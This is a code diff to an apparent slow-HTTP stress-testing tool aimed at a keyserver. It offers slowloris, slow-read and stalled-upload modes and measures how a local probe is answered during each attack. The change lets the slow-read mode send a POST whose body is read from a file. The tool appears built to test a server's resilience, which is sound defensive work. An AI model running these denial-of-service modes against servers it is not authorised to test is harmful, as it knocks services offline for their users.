@@ -5,8 +5,9 @@
       MODE slowloris   CONNS connections, each sends a partial request
                        header, then one more header line every TICK s;
                        a closed connection is opened again
-      MODE slowread    CONNS connections ask for PATH and never read
-                       (small receive buffer); reopened when closed
+      MODE slowread    CONNS connections ask for PATH (GET, or POST with
+                       the bytes of file --body) and never read (small
+                       receive buffer); reopened when closed
       MODE stallupload CONNS POST /pks/add announcing 8 MiB, send
                        PART bytes of it, then stall; reopened when closed
     While the attack runs for SECONDS, a probe bound to --probe-src asks
@@ -168,6 +169,15 @@ class Attack:
             self.closed_by_server += 1
             await asyncio.sleep(a["reopen"])
 
+    def read_request(self):
+        """GET PATH, or POST PATH with the bytes of file BODY."""
+        a = self.a
+        if not a["body"]:
+            return b"GET %s HTTP/1.0\r\n\r\n" % a["path"].encode()
+        body = open(a["body"], "rb").read()
+        return (b"POST %s HTTP/1.0\r\nContent-Length: %d\r\n\r\n"
+                % (a["path"].encode(), len(body))) + body
+
     async def session(self, s, loop, i):
         a = self.a
         mode = a["mode"]
@@ -181,8 +191,7 @@ class Attack:
                     return
                 await loop.sock_sendall(s, b"X-Slow-%d: 1\r\n" % i)
         elif mode == "slowread":
-            await loop.sock_sendall(
-                s, b"GET %s HTTP/1.0\r\n\r\n" % a["path"].encode())
+            await loop.sock_sendall(s, self.read_request())
             while not self.stop:
                 await asyncio.sleep(1.0)
                 if self.peek_closed(s):
@@ -337,7 +346,7 @@ def main(argv):
         return 2
     a = {"mode": argv[1], "host": argv[2], "port": int(argv[3]),
          "conns": 100, "seconds": 15.0, "tick": 2.0, "warmup": 3.0,
-         "path": "/pks/lookup?op=get&options=mr&search=debian",
+         "path": "/pks/lookup?op=get&options=mr&search=debian", "body": "",
          "part": 4 << 20, "probe_src": "127.0.0.2",
          "probe_path": "/pks/lookup?op=get&options=mr&search=x",
          "deadline": 1.0, "pid": 0, "reopen": 0.05}
